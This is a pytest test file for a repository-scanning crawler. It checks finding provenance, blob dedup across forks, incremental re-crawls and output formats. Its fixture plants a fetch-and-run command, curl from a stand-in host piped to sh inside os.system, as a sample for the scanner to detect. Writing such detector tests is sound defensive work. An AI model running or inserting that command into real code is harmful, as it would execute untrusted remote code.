"""Crawling a mirror: discovery, provenance, blob dedup across forks, incremental re-crawls, --new and exit codes."""
from __future__ import annotations

from pathlib import Path

import pytest

from crawlrun import crawl, findings
from gitrepos import commit, make_repo, mirror

PLANT = "import os\n\ndef update():\n    os.system('curl http://x.example/p | sh')\n"
CLEAN = "def add(a, b):\n    return a + b\n"


@pytest.fixture()
def world(tmp_path):
    """ROOT with acme/tool.git (Mallory plants, Bob edits later) and a fork that shares most blobs."""
    src = tmp_path / "src"
    repo = make_repo(src / "tool", [
        {"lib/math.py": CLEAN, "README.md": "# tool\n", "_author": "Alice", "_date": "2024-01-01T10:00:00+00:00"},
        {"lib/update.py": PLANT, "_author": "Mallory", "_date": "2024-02-01T10:00:00+00:00"},
        {"lib/update.py": PLANT + "\nVERSION = 2\n", "_author": "Bob", "_date": "2024-03-01T10:00:00+00:00"},
    ])
    root = tmp_path / "root"
    mirror(src / "tool", root / "acme" / "tool.git")
    fork = make_repo(src / "fork", [{"lib/math.py": CLEAN, "README.md": "# tool\n", "lib/update.py": PLANT,
                                     "_author": "Eve", "_date": "2024-04-01T10:00:00+00:00"}])
    mirror(src / "fork", root / "eve" / "tool.git")
    return {"root": root, "state": tmp_path / "state.db", "repo": repo, "fork": fork, "src": src}


def test_findings_carry_provenance_of_the_planting_commit(capsys, world):
    stats = crawl(capsys, world["root"], world["state"])
    assert stats["repos"] == 2 and stats["refs"] == 2 and stats["new_commits"] == 4
    code, report = findings(capsys, world["state"])
    assert code == 1
    by_repo = {f["repo"]: f for f in report["findings"]}
    assert set(by_repo) == {"acme/tool", "eve/tool"}, report["findings"]
    planted = by_repo["acme/tool"]
    mallory = next(c for c in world["repo"].iter_commits() if c.author.name == "Mallory")
    assert (planted["path"], planted["line"], planted["end_line"]) == ("lib/update.py", 4, 4)
    assert planted["commit"] == mallory.hexsha and planted["author"] == "Mallory"
    assert planted["email"] == "mallory@example.org" and planted["date"].startswith("2024-02-01T10:00:00")
    assert planted["committer_date"].startswith("2024-02-01") and planted["ref"] == "refs/heads/main"
    assert len(planted["blob"]) == 40
    assert by_repo["eve/tool"]["author"] == "Eve"


def test_each_blob_is_read_once_across_forks(capsys, world):
    stats = crawl(capsys, world["root"], world["state"])
    # tool: math.py, README.md, update.py v1 and v2; the fork adds no new blob.
    assert stats["blobs_read"] == 4 and stats["blobs_scanned"] == 4


def test_recrawl_reads_only_new_commits_and_new_blobs(capsys, world):
    crawl(capsys, world["root"], world["state"])
    again = crawl(capsys, world["root"], world["state"])
    assert (again["repos_unchanged"], again["new_commits"], again["blobs_read"]) == (2, 0, 0)
    assert findings(capsys, world["state"], "--new")[0] == 0  # nothing new: cron stays quiet
    commit(world["repo"], {"lib/net.py": "import os\nos.system('id')\n", "_author": "Trent",
                           "_date": "2024-05-01T10:00:00+00:00"})
    mirror_dir = world["root"] / "acme" / "tool.git"
    code = __import__("codescan.cli", fromlist=["main"]).main(
        ["mirror", "sync", str(_url_list(world, mirror_dir)), "--into", str(world["root"])])
    assert code == 0
    third = crawl(capsys, world["root"], world["state"])
    assert (third["repos_unchanged"], third["new_commits"], third["blobs_read"]) == (1, 1, 1)
    code, report = findings(capsys, world["state"], "--new")
    assert code == 1
    assert [(f["repo"], f["path"], f["author"]) for f in report["findings"]] == [("acme/tool", "lib/net.py", "Trent")]
    code, everything = findings(capsys, world["state"])
    assert len(everything["findings"]) == 3  # the plant (once per repo) and the new one: none twice
    code, high = findings(capsys, world["state"], "--new", "--fail-on", "critical")
    assert code == 0 and high["findings"]


def _url_list(world, mirror_dir: Path) -> Path:
    urls = world["state"].parent / "urls.txt"
    urls.write_text(f"file://{world['src'] / 'tool'} acme/tool.git\n")
    return urls


def test_since_filters_by_first_seen_and_formats_work(capsys, world):
    crawl(capsys, world["root"], world["state"])
    from codescan.cli import main
    assert main(["findings", "--state", str(world["state"]), "--since", "2999-01-01"]) == 2  # selects nothing
    assert len(findings(capsys, world["state"], "--since", "2000-01-01")[1]["findings"]) == 2
    assert main(["findings", "--state", str(world["state"]), "--format", "jsonl"]) == 1
    lines = capsys.readouterr().out.strip().splitlines()
    assert len(lines) == 2 and all('"commit"' in ln for ln in lines)
    assert main(["findings", "--state", str(world["state"]), "--format", "sarif"]) == 1
    assert '"acme/tool/lib/update.py"' in capsys.readouterr().out


def test_refs_choice_and_symlinks_out_of_root(capsys, world, tmp_path):
    outside = tmp_path / "elsewhere"
    make_repo(outside / "x", [{"evil.py": "import os\nos.system('x')\n"}], bare_mirror_at=outside / "x.git")
    (world["root"] / "linked.git").symlink_to(outside / "x.git")
    stats = crawl(capsys, world["root"], world["state"], "--refs", "all")
    assert stats["repos"] == 2
    _, report = findings(capsys, world["state"])
    assert all(f["repo"] != "linked" for f in report["findings"])
    assert any("symbolic link" in s["reason"] for s in report["skipped"])


def test_state_missing_and_not_a_folder_are_usage_errors(capsys, tmp_path):
    from codescan.cli import main
    assert main(["findings", "--state", str(tmp_path / "none.db")]) == 2
    assert main(["crawl", str(tmp_path / "nope"), "--state", str(tmp_path / "s.db")]) == 2
    assert "not a folder" in capsys.readouterr().err


def test_campaign_units_are_stored_unless_turned_off(capsys, world, tmp_path):
    from codescan.state import open_state
    crawl(capsys, world["root"], world["state"])
    crawl(capsys, world["root"], tmp_path / "plain.db", "--no-units")
    with open_state(world["state"], readonly=True) as st:
        blobs = {blob for blob, unit in st.units()}
        assert blobs and blobs <= {o.blob for o in st.occurrences()}
    with open_state(tmp_path / "plain.db", readonly=True) as st:
        assert list(st.units()) == []
